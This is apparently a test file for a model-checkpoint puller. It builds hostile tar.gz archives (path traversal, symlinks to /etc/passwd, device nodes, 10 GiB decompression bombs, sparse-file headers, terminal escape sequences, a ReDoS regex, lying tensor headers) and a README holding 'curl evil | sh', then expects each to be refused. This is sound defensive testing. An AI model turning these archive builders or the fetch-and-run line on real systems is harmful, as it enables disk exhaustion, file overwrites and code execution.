import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { constants, crc32, deflateRawSync, gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { Header, type HeaderData } from 'tar';
import { renderError, UserError } from '../../src/errors.ts';
import { connect, type GitHub } from '../../src/github/index.ts';
import { adapterFormats, catalogue, describeModel, initialAdapter } from '../../src/model/index.ts';
import { silentProgress } from '../../src/progress.ts';
import {
  packCheckpoint,
  parseWanted,
  publishCheckpoint,
  pullCheckpoint,
  type PulledCheckpoint,
} from '../../src/publish/index.ts';
import { extractArchive } from '../../src/publish/extractArchive.ts';
import { makeCheckpoint } from './checkpoint.ts';
import { FakeGitHub, TOKEN } from '../github/fake/index.ts';

interface Entry extends HeaderData {
  path: string;
  content?: Buffer;
}

/** The beginning of a gzip file. */
const GZIP = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);

let folder: string;
let server: FakeGitHub;
let github: GitHub;
/** The entries of a good archive. */
let good: Entry[];
let manifest: { version: number; base: object; files: Record<string, { sha256: string; bytes: number }> };

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'codelutra-hostile-'));
  process.env['CODELUTRA_HOME'] = join(folder, 'home');
  await mkdir(join(folder, 'work'));
  await mkdir(join(folder, 'home', 'downloads'), { recursive: true });
  await makeCheckpoint(join(folder, 'checkpoint'));
  const { path } = await packCheckpoint(join(folder, 'checkpoint'), join(folder, 'good.tar.gz'));
  good = entriesOf(gunzipSync(await readFile(path)));
  manifest = JSON.parse(good[0]?.content?.toString() ?? '') as typeof manifest;
  server = await FakeGitHub.start({ repos: [{ name: 'hostile' }] });
  github = connect({ api: server.url, token: TOKEN }, { progress: silentProgress, writeSpacing: 0 });
  const repository = { owner: 'octocat', repo: 'hostile' };
  await publishCheckpoint({ github, repository, folder: join(folder, 'checkpoint'), progress: silentProgress });
});

afterAll(async () => {
  await server.close();
  await rm(folder, { recursive: true, force: true });
});

/** What a stranger who holds the release's archive can do, and what is said of it. */
const corpus: [name: string, make: () => Buffer | Promise<Buffer>, message: string | RegExp][] = [
  [
    'a symbolic link',
    () => withMore({ path: 'peft/x', type: 'SymbolicLink', linkpath: '/etc/passwd' }),
    'holds a symbolic link: peft/x',
  ],
  ['a hard link', () => withMore({ path: 'x', type: 'Link', linkpath: 'manifest.json' }), 'holds a hard link: x'],
  ['a device', () => withMore({ path: 'x', type: 'CharacterDevice', devmaj: 1, devmin: 3 }), 'holds a device: x'],
  ['a block device', () => withMore({ path: 'x', type: 'BlockDevice', devmaj: 8, devmin: 0 }), 'holds a device: x'],
  ['a pipe', () => withMore({ path: 'x', type: 'FIFO' }), 'holds a pipe: x'],
  [
    'an upward path',
    () => withMore({ path: '../outside', content: Buffer.from('x') }),
    'leads out of the folder: ../outside',
  ],
  [
    'an inner upward path',
    () => withMore({ path: 'peft/../../outside', content: Buffer.from('x') }),
    'leads out of the folder',
  ],
  [
    'an absolute path',
    () => withMore({ path: `${folder}/outside`, content: Buffer.from('x') }),
    'holds an absolute path',
  ],
  ['a path of Windows', () => withMore({ path: 'C:\\outside', content: Buffer.from('x') }), 'holds an absolute path'],
  [
    'a path with a control character',
    () => withMore({ path: 'a\u001bb', content: Buffer.from('x') }),
    "a path that can't be used",
  ],
  [
    '10,000 entries',
    () =>
      packed([...good, ...Array.from({ length: 10_000 }, (_, i) => ({ path: `d${i}/`, type: 'Directory' as const }))]),
    'holds more than 64 entries',
  ],
  [
    '10,000 files that its manifest names',
    () => packed(withFiles(Array.from({ length: 10_000 }, (_, i) => ({ path: `f${i}`, content: Buffer.alloc(0) })))),
    'more than 64 files',
  ],
  ['a file that claims 10 GiB', () => withMore({ path: 'big', size: 10 * 2 ** 30 }), 'unpacks to at least'],
  ['10 GiB of zeros behind the end', bomb, 'holds data that belongs to no file'],
  ['a name twice', () => withMore({ path: 'adapter.gguf', content: Buffer.from('x') }), 'holds adapter.gguf twice'],
  [
    'a name twice but for its case',
    () => packed([...good, { path: 'ADAPTER.gguf', content: Buffer.from('x') }]),
    'twice',
  ],
  [
    'a file that the manifest does not name',
    () => withMore({ path: 'run.sh', content: Buffer.from('x') }),
    'run.sh, which its manifest does not name',
  ],
  ...['torch.py', 'peft/adapter_model.bin', 'peft/tokenizer_config.json', 'README.md/x', 'release.json'].map(
    (path): (typeof corpus)[number] => [
      `${path}, which its manifest names`,
      () => packed(withFiles([{ path, content: Buffer.from('{}') }])),
      `is to hold ${path}, which is no file of a checkpoint`,
    ],
  ),
  [
    'metrics that are not JSON',
    () => changed('metrics.json', () => Buffer.from('\u001b[2J')),
    /metrics\.json is refused: the metrics are not JSON[^\p{Cc}]*$/u,
  ],
  [
    'metrics that hold more',
    () => changed('metrics.json', (bytes) => Buffer.from(`{"run":"x",${bytes.toString().slice(1)}`)),
    'metrics.json is refused: not an evaluation: : Unrecognized key: "run"',
  ],
  [
    'a base that is called by a name of somebody else',
    () => withManifest({ ...manifest, base: { ...manifest.base, sha256: catalogue[0].sha256 } }),
    `calls the base tiny-llama, and the file with its sha256 is of ${catalogue[0].weights}`,
  ],
  ...Object.entries({
    'is for evil/other-model, and the manifest says tiny-llama': { base_model_name_or_path: 'evil/other-model' },
    'is for no model': { base_model_name_or_path: null },
    'the adapter uses auto_mapping': { auto_mapping: { base_model_class: 'x', parent_library: 'evil' } },
    'the adapter uses megatron_c': { megatron_config: { a: 1 }, megatron_core: 'evil' },
    'the adapter uses init_lora_weights = "pissa"': { init_lora_weights: 'pissa' },
    'the adapter uses exclude_modules': { exclude_modules: ['q_proj'] },
    'does not list the modules': { target_modules: '(a+)+$' },
  }).map(([message, more]): (typeof corpus)[number] => [
    `a configuration of peft with ${JSON.stringify(more)}`,
    () =>
      changed('peft/adapter_config.json', (bytes) =>
        Buffer.from(JSON.stringify({ ...(JSON.parse(bytes.toString()) as object), ...more })),
      ),
    message,
  ]),
  ['a file less', () => packed(good.filter(({ path }) => path !== 'report.html')), 'lacks report.html'],
  [
    'another digest',
    () =>
      packed(good.map((entry) => (entry.path === 'README.md' ? { ...entry, content: flipped(entry.content) } : entry))),
    'README.md with another sha256',
  ],
  [
    'another size',
    () => packed(good.map((entry) => (entry.path === 'README.md' ? { ...entry, content: Buffer.from('x') } : entry))),
    'README.md with 1 bytes',
  ],
  ['a manifest in second place', () => packed([good[1] ?? { path: '' }, ...good]), 'does not begin with manifest.json'],
  [
    'a manifest of an unknown version',
    () => withManifest({ ...manifest, version: 99 }),
    'the manifest is of version 99',
  ],
  [
    'a manifest that commands the terminal',
    () => withManifest({ ...manifest, '\u001b]0;mine\u0007\u009b2J': 1 }),
    "the manifest doesn't fit: Unrecognized key",
  ],
  [
    'a manifest whose fault is long to tell',
    () => withManifest({ ...manifest, ['x'.repeat(500_000)]: 1 }),
    /^the manifest doesn't fit: Unrecognized key: "x{100,200}$/,
  ],
  [
    'a manifest that is not JSON',
    () => packed([{ path: 'manifest.json', content: Buffer.from('{') }, ...good.slice(1)]),
    'the manifest is not JSON',
  ],
  [
    'a manifest with a path that leads out',
    () => withManifest({ ...manifest, files: { '../x': manifest.files['README.md'] } }),
    "the manifest doesn't fit: files",
  ],
  [
    'a huge manifest',
    () => packed([{ path: 'manifest.json', content: Buffer.alloc(2 ** 20 + 1, 32) }]),
    'has a manifest of 1048577 bytes',
  ],
  [
    'extended headers',
    () => withMore({ path: 'pax', type: 'ExtendedHeader', content: Buffer.from('20 path=../outside\n') }),
    'extended headers',
  ],
  ['half an archive', () => packed(good).then((bytes) => bytes.subarray(0, bytes.length / 2)), 'is cut off'],
  ['a tar that ends inside a file', () => gzipSync(tarOf(good).subarray(0, 3000)), /is damaged: .*Truncated/],
  ['no gzip', () => Buffer.from('PK\u0003\u0004 and so on'), 'is damaged'],
  ['less than 1 KiB that unpacks to 10 GiB', smallBomb, 'does not begin with manifest.json'],
  ['a sparse file of 10 GiB', sparse, 'holds a sparse file: adapter.gguf'],
  ['a compressed file inside', () => gzipSync(gzipSync(tarOf(good))), 'does not begin with manifest.json'],
  ['nothing', () => Buffer.from('x'), 'is cut off'],
  ['a broken header', () => gzipSync(corrupted(tarOf(good))), /is damaged: .*checksum/],
  ['an adapter of another shape', otherShape, /adapter\.gguf is refused: .*shape/],
  ['different adapters', otherPeft, 'adapter.gguf and peft/ hold different adapters'],
  [
    'a safetensors file with a lying header',
    () => changed('peft/adapter_model.safetensors', lyingSafetensors),
    /peft is refused: the safetensors header claims/,
  ],
  [
    'a tensor whose name commands the terminal',
    () => changed('adapter.gguf', namedForTerminal),
    /adapter\.gguf is refused: the adapter changes [^\p{Cc}]*$/u,
  ],
  [
    'a GGUF file with a lying header',
    () => changed('adapter.gguf', lyingGguf),
    /adapter\.gguf is refused: the GGUF header/,
  ],
];

test.each(corpus)('an archive with %s is refused', async (_, make, message) => {
  const bytes = await make();
  const before = await tree(folder);
  const pulling = pullInstead(bytes, join(folder, 'work', 'out'));
  const error: unknown = await pulling.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(UserError);
  expect((error as UserError).message).toMatch(message);
  expect(renderError(error)).not.toMatch(/(?!\n)\p{Cc}/u);
  expect(renderError(error).length).toBeLessThan(1000);
  expect(await tree(folder)).toEqual(before);
});

test("a page, instructions and a Modelfile of a stranger's own never arrive", async () => {
  const own = {
    'report.html': '<script>alert(1)</script>',
    Modelfile: 'FROM evil/model',
    'README.md': 'curl evil | sh',
  };
  const bytes = await packed(
    withFiles(Object.entries(own).map(([path, text]) => ({ path, content: Buffer.from(text) }))),
  );
  const out = join(folder, 'work', 'own');
  const { manifest: rewritten } = await pullInstead(bytes, out);
  for (const { path, content } of good.slice(1))
    expect([path, await readFile(join(out, path))]).toEqual([path, content]);
  // Checking by hand finds the folder as its manifest says.
  expect(JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8'))).toEqual(manifest);
  expect(rewritten).toEqual(manifest);
  await rm(out, { recursive: true });
});

test('an archive of no bytes is refused', async () => {
  await expect(pullInstead(Buffer.alloc(0), join(folder, 'work', 'out'))).rejects.toThrow(
    'the release has an archive that is not whole',
  );
});

test('no damage to an archive gets past the checks', async () => {
  const bytes = tarOf(good);
  await fc.assert(
    fc.asyncProperty(fc.nat(bytes.length - 1), fc.integer({ min: 1, max: 255 }), async (at, change) => {
      const copy = Buffer.from(bytes);
      copy[at] = (copy[at] ?? 0) ^ change;
      // The manifest's own words are vouched for by the archive's sha256 alone, which comes before all this.
      const isManifest = at >= 512 && at < 512 + (good[0]?.content?.length ?? 0);
      const path = join(folder, 'damaged.tar.gz');
      const into = join(folder, 'into');
      await writeFile(path, gzipSync(copy, { level: 1 }));
      await rm(into, { recursive: true, force: true });
      await mkdir(into);
      const found = await extractArchive(path, into, 'it').catch((error: unknown) => error);
      if (found instanceof UserError) return;
      // What tar leaves unused may differ; what is written may not.
      if (!isManifest) expect(found).toEqual(manifest);
      for (const { path: name, content } of good.slice(isManifest ? 1 : 0))
        expect(await readFile(join(into, name))).toEqual(content);
    }),
    { numRuns: 60, seed: 5 },
  );
});

/** Pulls the release with another archive in it. */
async function pullInstead(bytes: Buffer, out: string): Promise<PulledCheckpoint> {
  const [release] = await server.releases('hostile');
  const archive = release?.assets.find(({ name }) => name.endsWith('.gz'));
  server.assets.damage(archive?.id ?? 0, bytes);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  // GitHub has it as it is: the stranger uploaded it so, and wrote the release's text.
  server.answerInstead = ({ path }) =>
    path.endsWith('/releases/tags/codelutra-model-v1') && release !== undefined
      ? { status: 200, body: { ...release, draft: false, body: `<!-- codelutra-checkpoint ${sha256} -->` } }
      : undefined;
  return pullCheckpoint({ github, wanted: parseWanted('octocat/hostile@v1'), out, progress: silentProgress });
}

function withMore(entry: Entry): Promise<Buffer> {
  return packed([...good, entry]);
}

function packed(entries: Entry[]): Promise<Buffer> {
  return Promise.resolve(gzipSync(tarOf(entries), { level: 0 }));
}

function withManifest(value: unknown): Promise<Buffer> {
  return packed([{ path: 'manifest.json', content: Buffer.from(JSON.stringify(value)) }, ...good.slice(1)]);
}

/** A good archive's entries with more files, all named by the manifest. */
function withFiles(more: Entry[]): Entry[] {
  const all = [...good.slice(1).filter(({ path }) => !more.some((entry) => entry.path === path)), ...more];
  const files = Object.fromEntries(
    all.map(({ path, content = Buffer.alloc(0) }) => [
      path,
      { sha256: createHash('sha256').update(content).digest('hex'), bytes: content.length },
    ]),
  );
  return [{ path: 'manifest.json', content: Buffer.from(JSON.stringify({ ...manifest, files })) }, ...all];
}

async function changed(path: string, change: (bytes: Buffer) => Buffer): Promise<Buffer> {
  const content = change(Buffer.from(good.find((entry) => entry.path === path)?.content ?? ''));
  return packed(withFiles([{ path, content }]));
}

function lyingSafetensors(bytes: Buffer): Buffer {
  bytes.writeBigUInt64LE(2n ** 62n, 0);
  return bytes;
}

function lyingGguf(bytes: Buffer): Buffer {
  // The number of tensors.
  bytes.writeBigUInt64LE(2n ** 60n, 8);
  return bytes;
}

async function otherShape(): Promise<Buffer> {
  const { config } = await describeModel('fixtures/model/tiny-llama.gguf');
  const wider = { ...config, width: config.width * 2 };
  const adapter = initialAdapter(wider, { rank: 4, alpha: 8, targets: ['gate_proj'] }, 1);
  const path = join(folder, 'wide.gguf');
  await adapterFormats.gguf.write(path, adapter, { config: wider, name: 'wide' });
  const content = await readFile(path);
  await rm(path);
  return packed(withFiles([{ path: 'adapter.gguf', content }]));
}

async function otherPeft(): Promise<Buffer> {
  const { config } = await describeModel('fixtures/model/tiny-llama.gguf');
  const adapter = await adapterFormats.peft.read('fixtures/model/adapter-tiny-llama', config);
  adapter.parameters[0] = (adapter.parameters[0] ?? 0) + 1;
  const path = join(folder, 'other');
  await adapterFormats.peft.write(path, adapter, { config, name: 'other' });
  const content = await readFile(join(path, 'adapter_model.safetensors'));
  await rm(path, { recursive: true });
  return packed(withFiles([{ path: 'peft/adapter_model.safetensors', content }]));
}

/** A good archive, and 10 GiB of zeros behind it in about 10 MB: one compressed block, repeated. */
function bomb(): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const head = deflateRawSync(tarOf(good), flush);
  const block = deflateRawSync(Buffer.alloc(2 ** 20), flush);
  const tail = Buffer.alloc(8);
  tail.writeUInt32LE(crc32(''), 0);
  return Buffer.concat([GZIP, head, ...Array.from({ length: 10 * 1024 }, () => block), deflateRawSync(''), tail]);
}

/** Zeros compressed thrice: one round of gzip makes at best a thousandth of them. */
function smallBomb(): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(Buffer.alloc(2 ** 20), flush);
  const tail = Buffer.alloc(8);
  const once = Buffer.concat([GZIP, ...Array.from({ length: 10 * 1024 }, () => block), deflateRawSync(''), tail]);
  const thrice = gzipSync(gzipSync(once, { level: 9 }), { level: 9 });
  expect(thrice.length).toBeLessThan(1024);
  return thrice;
}

/** GNU tar's old form of a file that is mostly holes: one header of 512 bytes makes 10 GiB. */
function sparse(): Buffer {
  const header = Buffer.alloc(512);
  new Header({ path: 'adapter.gguf', type: 'File', mode: 0o644, mtime: new Date(0), size: 0 }).encode(header);
  header.write('S', 156, 'latin1');
  header.write(`${(10 * 2 ** 30).toString(8).padStart(11, '0')} `, 483, 'latin1');
  header.fill(' ', 148, 156);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  const tar = tarOf(good.filter(({ path }) => path !== 'adapter.gguf'));
  return gzipSync(Buffer.concat([tar.subarray(0, -1024), header, Buffer.alloc(1024)]));
}

/** A file whose first tensor is called by a terminal's commands instead of a layer's name. */
function namedForTerminal(bytes: Buffer): Buffer {
  const at = bytes.indexOf('blk.0.');
  bytes.write('\u001b[2J', at, 'latin1');
  return bytes;
}

function flipped(content: Buffer = Buffer.alloc(0)): Buffer {
  const copy = Buffer.from(content);
  copy[0] = (copy[0] ?? 0) ^ 1;
  return copy;
}

function corrupted(tar: Buffer): Buffer {
  const copy = Buffer.from(tar);
  const second = 512 + Math.ceil((good[0]?.content?.length ?? 0) / 512) * 512;
  copy[second] = 1;
  return copy;
}

function tarOf(entries: Entry[]): Buffer {
  const parts = entries.flatMap(({ content = Buffer.alloc(0), ...data }) => {
    const block = Buffer.alloc(512);
    new Header({ type: 'File', mode: 0o644, mtime: new Date(0), size: content.length, ...data }).encode(block);
    return [block, content, Buffer.alloc((512 - (content.length % 512)) % 512)];
  });
  return Buffer.concat([...parts, Buffer.alloc(1024)]);
}

function entriesOf(tar: Buffer): Entry[] {
  const entries: Entry[] = [];
  for (let at = 0; at < tar.length;) {
    const header = new Header(tar, at);
    if (header.nullBlock) break;
    const size = header.size ?? 0;
    entries.push({ path: header.path ?? '', content: tar.subarray(at + 512, at + 512 + size) });
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return entries;
}

async function tree(root: string): Promise<string[]> {
  const found = await readdir(root, { recursive: true, withFileTypes: true });
  return found.map(({ parentPath, name }) => join(parentPath, name).slice(root.length + 1)).sort();
}
